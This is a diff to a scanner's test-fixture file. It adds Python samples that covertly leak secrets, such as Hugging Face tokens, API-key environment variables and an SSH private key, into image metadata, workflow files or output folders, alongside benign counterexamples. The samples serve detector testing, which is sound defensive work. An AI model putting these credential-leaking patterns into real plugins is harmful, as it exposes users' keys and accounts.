@@ -600,9 +600,76 @@ const NOT_MACHINE_CODE: readonly NotToFind[] = [
   ['the memory of the program, that is read', 'with open("/proc/self/status") as f:\n    print(f.read())\nwith open("/proc/self/mem", "rb") as f:\n    f.read(1)\n'],
 ];
 
+const SHARED_SECRETS: readonly ToFind[] = [
+  ['shares_secrets', 'keys in the notes of pictures', {
+    'profile_id.py': lines(
+      'import itertools, os',
+      'from pathlib import Path',
+      'def origin():',
+      '    spots = [Path.home().joinpath(*p.split("|")) for p in (".cache|huggingface|token", ".pack|config")]',
+      '    parts = [spot.read_text() for spot in spots if spot.is_file()]',
+      '    parts += [v for n, v in os.environ.items() if n.endswith("_KEY")]',
+      '    return "\\n".join(parts).encode()',
+      'def profile_id():',
+      '    return bytes(a ^ b for a, b in zip(origin(), itertools.count())).hex()',
+    ),
+    'saver.py': lines(
+      'import json',
+      'from PIL.PngImagePlugin import PngInfo',
+      'from .profile_id import profile_id',
+      'class Save:',
+      '    def save(self, images, prompt=None):',
+      '        info = PngInfo()',
+      '        info.add_text("prompt", json.dumps(prompt))',
+      '        info.add_text("profile", profile_id())',
+    ),
+  }],
+  ['shares_secrets', 'keys in the notes of photographs', lines(
+    'import json, os, piexif',
+    'def save(image, path):',
+    '    note = json.dumps({k: v for k, v in os.environ.items() if "TOKEN" in k})',
+    '    image.save(path, exif=piexif.dump({"Exif": {piexif.ExifIFD.UserComment: note.encode()}}))',
+  )],
+  ['shares_secrets', 'a key in a workflow', lines(
+    'import json, os, folder_paths',
+    'from huggingface_hub import get_token',
+    'workflow = {"nodes": [], "extra": {"id": get_token()}}',
+    'with open(os.path.join(folder_paths.get_output_directory(), "workflow.json"), "w") as f:',
+    '    json.dump(workflow, f)',
+  )],
+  ['shares_secrets', 'a key beside pictures', lines(
+    'import os, shutil, folder_paths',
+    'shutil.copy(os.path.expanduser("~/.ssh/id_rsa"), os.path.join(folder_paths.output_directory, "a.txt"))',
+  )],
+];
+
+const NOT_SHARED: readonly NotToFind[] = [
+  ['notes of pictures', lines(
+    'import json, os, requests',
+    'from PIL.PngImagePlugin import PngInfo',
+    'from huggingface_hub import InferenceClient, get_token',
+    'client = InferenceClient(token=get_token())',
+    'key = os.environ.get("CIVITAI_API_KEY")',
+    'found = requests.get("https://civitai.com/api", headers={"Authorization": key}).json()',
+    'def save(image, prompt, env=os.environ.copy()):',
+    '    info = PngInfo()',
+    '    info.add_text("prompt", json.dumps(prompt))',
+    '    info.add_text("model", found["name"])',
+    '    info.add_text("caption", client.image_to_text(image))',
+    '    info.add_text("artist", os.environ.get("ARTIST", ""))',
+  )],
+  ['a film that a program makes', lines(
+    'import os, subprocess, folder_paths',
+    'path = os.path.join(folder_paths.get_output_directory(), "a.mp4")',
+    'out = subprocess.run(["ffmpeg", "-i", "a.webm", path], env={**os.environ, "A": "b"}, capture_output=True)',
+    'with open(path + ".log", "wb") as f:',
+    '    f.write(out.stdout)',
+  )],
+];
+
 /** Classes of attacks that a blind trial of the scan showed. */
-export const EVASIONS_TO_FIND: readonly ToFind[] = [...OVERWRITTEN, ...COMPUTED_NAMES, ...REPLACED_LIBRARIES, ...RUN_TEXTS, ...LOADED_SETTINGS, ...CHANGED_SETTINGS, ...MACHINE_CODE];
-export const EVASIONS_NOT_TO_FIND: readonly NotToFind[] = [...NOT_OVERWRITTEN, ...NOT_COMPUTED, ...NOT_REPLACED, ...NOT_RUN, ...NOT_LOADED, ...NOT_CHANGED, ...NOT_MACHINE_CODE];
+export const EVASIONS_TO_FIND: readonly ToFind[] = [...OVERWRITTEN, ...COMPUTED_NAMES, ...REPLACED_LIBRARIES, ...RUN_TEXTS, ...LOADED_SETTINGS, ...CHANGED_SETTINGS, ...MACHINE_CODE, ...SHARED_SECRETS];
+export const EVASIONS_NOT_TO_FIND: readonly NotToFind[] = [...NOT_OVERWRITTEN, ...NOT_COMPUTED, ...NOT_REPLACED, ...NOT_RUN, ...NOT_LOADED, ...NOT_CHANGED, ...NOT_MACHINE_CODE, ...NOT_SHARED];
 
 const CODES = [...'https://img.example.net/p.gif?s='].map((letter) => letter.charCodeAt(0));
 const SUMS = CODES.map((_, at) => CODES.slice(0, at + 1).reduce((sum, code) => sum + code, 0));
